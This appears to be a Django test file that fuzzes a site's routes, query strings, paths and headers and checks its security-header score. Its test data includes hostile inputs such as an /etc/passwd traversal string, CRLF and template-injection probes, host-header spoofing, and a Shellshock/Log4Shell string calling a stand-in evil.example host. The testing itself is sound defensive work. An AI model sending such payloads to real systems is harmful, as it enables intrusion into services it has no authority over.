"""Requests that no page of ours makes: every route, every parameter, every header."""

import re
from itertools import cycle
from pathlib import Path
from urllib.parse import urlencode

import pytest
from django.test import Client
from django.urls import URLPattern, get_resolver

from config import security
from tests.hostile import payloads, shapes, world

pytestmark = [pytest.mark.django_db, pytest.mark.slow(60 if payloads.IS_FULL else 30)]

HUGE = (0, 2**31, 2**63, 10**30)


@pytest.fixture
def site(db):
    world.build()


def routes(found=None, prefix=""):
    """Every address of the URLconf, with a word or this number in its places."""
    for each in get_resolver().url_patterns if found is None else found:
        route = prefix + str(each.pattern).lstrip("^").rstrip("$")
        if isinstance(each, URLPattern):
            yield route
        else:
            yield from routes(each.url_patterns, route)


def address(route, *, number=1, word="free"):
    path = re.sub(r"<int:\w+>", str(number), route.replace("\\Z", ""))
    path = re.sub(r"<[^>]+>", word, path)
    return "/" + re.sub(r"\(\?P.*", "x", path)


ROUTES = sorted(set(routes()))


@pytest.mark.parametrize("method", ["TRACE", "TRACK", "PUT", "DELETE", "PATCH", "FOO"])
def test_no_route_answers_another_method(method):
    answered = {
        route: answer.status_code
        for route in ROUTES
        if (answer := Client().generic(method, address(route))).status_code != 405
    }

    assert len(ROUTES) > 80
    assert answered == {}


def test_no_route_knows_a_huge_number(site, admin_client):
    """Wider than a column of either database; staff routes as well."""
    numbered = [route for route in ROUTES if "<int:" in route or "object_id" in route]
    wrong = {
        (route, number): answer.status_code
        for route in numbered
        for number in HUGE
        if (
            answer := admin_client.get(address(route, number=number, word=str(number)))
        ).status_code
        >= 500
    }

    assert len(numbered) > 10
    assert wrong == {}


WORDS = ("\x00", "\ud800", "%", "9" * 40, "-1", "\r\nX: y", "a" * 5000, "'", "{{7*7}}")
LISTS = (
    *("/reports/", "/people/", "/places/", "/search/", "/search/feed.atom"),
    *("/embassies/", "/actions/", "/actions/report/", "/timeline/", "/campaigns/free/"),
    *("/campaigns/free/write/", "/campaigns/free/pack.pdf", "/exports/claims.csv"),
    *("/campaigns/free/evidence/", "/embassies/office/report/", "/api/v1/search"),
    *("/api/v1/documents", "/api/v1/claims", "/api/v1/recipients", "/api/v1/actions"),
)
NAMES = (
    *("q", "after", "page", "type", "kind", "of", "from", "to", "town", "campaign"),
    *("language", "address", "show", "limit", "cursor", "document", "entity", "sort"),
    *("source", "place", "since", "until", "facet", "country", "date", "year", "role"),
)


def _names_in_code():
    """What any view of the site asks an address for."""
    found = set()
    for path in _sources():
        found |= set(re.findall(r'GET(?:\.get\(|\[)"(\w+)"', path.read_text()))
    return found


def _sources():
    root = Path(security.__file__).parents[1]
    return [*root.glob("archive/view*.py"), *root.glob("campaign/views/*.py")]


def test_every_parameter_that_a_public_view_reads_is_tried():
    assert _names_in_code() <= set(NAMES)


def test_no_parameter_breaks_a_page(site):
    """Odd values in all parameters at once; in turn, one of each alone; and twice."""
    wrong, typed = [], cycle(payloads.chosen() if payloads.IS_FULL else WORDS)
    for nth, door in enumerate(LISTS):
        step = 1 if payloads.IS_FULL else 5  # the short form: each fifth
        for word in WORDS[nth % step :: step]:
            asked = dict.fromkeys(NAMES, word.encode("utf-8", "surrogatepass")[:250])
            wrong += _refused(f"{door}?{urlencode(asked)}")
        for name in NAMES[nth % step :: step]:
            sent = next(typed).encode("utf-8", "surrogatepass")[:4000]
            wrong += _refused(f"{door}?{urlencode([(name, sent), (name, 'x')])}")

    assert wrong == []


def _refused(path):
    answer = Client().get(path)
    if answer.status_code >= 500:
        return [(path, answer.status_code)]
    try:
        shapes.of(answer)
    except (shapes.Broken, ValueError) as broken:
        return [(path, str(broken))]
    return []


QUERIES = (
    *("%", "%zz", "%ff%fe", "q=%ed%a0%80", "q=%00", "q=%c0%ae", "&" * 3000, "=" * 3000),
    *("q[]=1", "q[a][b]=1", "__proto__=1", "q=a;b=c", "q", "?", "q=%u0041", "#"),
    "&".join(f"a{each}=1" for each in range(10_000)),
    "&".join("q=a" for _ in range(3_000)),
)
PATHS = (
    "%ff%fe",
    "%c0%ae%c0%ae/",
    "%00",
    "%",
    "..%2f..%2fetc%2fpasswd",
    "a" * 7000,
    "//x",
    "%0d%0aX:%20y",
)


@pytest.mark.parametrize("path", ["/", "/search/", "/api/v1/search", "/admin/login/"])
def test_no_query_string_breaks_a_page(site, path):
    for query in QUERIES:
        assert Client().get(path, QUERY_STRING=query).status_code < 500, query[:40]


@pytest.mark.parametrize("path", PATHS)
def test_no_path_breaks_a_page(path, db):
    for start in ("/", "/reports/", "/static/", "/api/v1/", "/e/", "/admin/"):
        answer = Client().get(start + path)
        assert answer.status_code in {301, 302, 400, 404}
        assert "X" not in answer.headers


HEADERS = [
    {"Accept": "a/b;q=x, */*;q=9" * 50},
    {"Accept-Language": "x" * 4000},
    {"Accept-Language": "../../etc;q=0.0000000001,\x00"},
    {"Range": "bytes=9-1,-5,0-0" * 60},
    {"If-None-Match": '"' * 3000},
    {"If-None-Match": '*, W/, "a'},
    {"If-Modified-Since": "yesterday"},
    {"If-Modified-Since": "Mon, 99 Foo 99999 99:99:99 GMT"},
    {"Accept-Encoding": "gzip;q=nan, br, x" * 60},
    {"X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"},
    {"X-Original-URL": "/admin/", "X-Rewrite-URL": "/admin/"},
    {"X-HTTP-Method-Override": "DELETE"},
    {"Cookie": "sessionid=" + "a" * 3000 + "; csrftoken=\x00; =;"},
    {"Content-Length": "9" * 30},
    {"User-Agent": "() { :;}; ${jndi:ldap://evil.example/a}"},
]


@pytest.mark.parametrize("headers", HEADERS, ids=lambda each: next(iter(each)))
def test_no_header_breaks_or_turns_a_page(site, headers):
    plain = Client().get("/reports/")
    for path in ("/reports/", "/static/site.css", "/campaigns/free/card.png"):
        answer = Client().get(path, headers=headers)
        assert answer.status_code in {200, 304, 404, 416}, path
        assert "evil.example" not in str(answer.headers)
    answer = Client().get("/reports/", headers=headers)
    if answer.status_code == 200 and "Content-Encoding" not in answer.headers:
        assert answer.content == plain.content
        assert "Cookie" not in answer.headers.get("Vary", "")
        assert not answer.cookies


# What the Mozilla HTTP Observatory gives and takes (its scoring of 2024), for the
# part that headers decide: 100 at first; bonuses count from 90 on.
BONUS = {
    "default-src 'none' and nothing inline": 10,
    "no other site may frame it": 5,
    "no-referrer": 5,
    "CORP same-origin": 10,
    "HSTS is preloaded": 5,
}


def observatory(headers: dict[str, str]) -> int:
    """The score of an answer without cookies, scripts or styles from elsewhere."""
    policy = headers.get("Content-Security-Policy", "")
    score = 100
    score -= 25 * ("default-src 'none'" not in policy or "unsafe" in policy)
    score -= 20 * ("max-age=" not in headers.get("Strict-Transport-Security", ""))
    score -= 5 * (headers.get("X-Content-Type-Options") != "nosniff")
    score -= 20 * ("frame-ancestors" not in policy and "X-Frame-Options" not in headers)
    if score >= 90:
        met = {
            "default-src 'none' and nothing inline": "default-src 'none'" in policy
            and "unsafe" not in policy,
            "no other site may frame it": "frame-ancestors 'none'" in policy,
            "no-referrer": headers.get("Referrer-Policy") == "no-referrer",
            "CORP same-origin": headers.get("Cross-Origin-Resource-Policy")
            == "same-origin",
            "HSTS is preloaded": "preload" in headers["Strict-Transport-Security"],
        }
        score += sum(BONUS[name] for name, is_met in met.items() if is_met)
    return score


@pytest.mark.parametrize(
    "path", ["/", "/nowhere/", "/reports/", "/campaigns/free/write/"]
)
def test_the_headers_of_a_page_score_as_high_as_the_observatory_goes(site, path):
    assert observatory(dict(Client().get(path).headers)) >= 130


def test_without_its_headers_a_page_would_not(site):
    found = dict(Client().get("/").headers)

    for name in ("Content-Security-Policy", "Strict-Transport-Security"):
        less = {key: value for key, value in found.items() if key != name}
        assert observatory(less) < 100
